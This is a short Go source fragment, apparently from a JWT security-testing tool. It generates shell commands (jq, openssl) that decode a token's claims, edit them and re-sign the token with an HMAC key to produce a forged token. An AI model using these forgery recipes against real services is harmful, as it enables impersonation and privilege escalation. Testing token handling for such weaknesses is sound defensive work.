package security

// The recipes are shell (with jq and openssl) that makes the same forgery by hand.

// base64URL ends a pipe.
const base64URL = `base64 -w0 | tr '+/' '-_' | tr -d =`

func encoding(header string) string { return "$(printf '%s' '" + header + "' | " + base64URL + ")" }

// editing puts the claims of TOKEN into CLAIMS, changed by a filter of jq.
func editing(filter string) string {
	return `CLAIMS="$(echo "$TOKEN" | cut -d. -f2 | tr '_-' '/+' | base64 -d 2>/dev/null | jq -cj '` + filter + `' | ` + base64URL + `)"`
}

// signing makes FORGED out of what is to be signed and the key.
func signing(unsigned, key string) string {
	return "UNSIGNED=" + unsigned + `; FORGED="$UNSIGNED.$(printf %s "$UNSIGNED" | openssl dgst -sha256 -hmac ` + key + ` -binary | ` + base64URL + `)"`
}
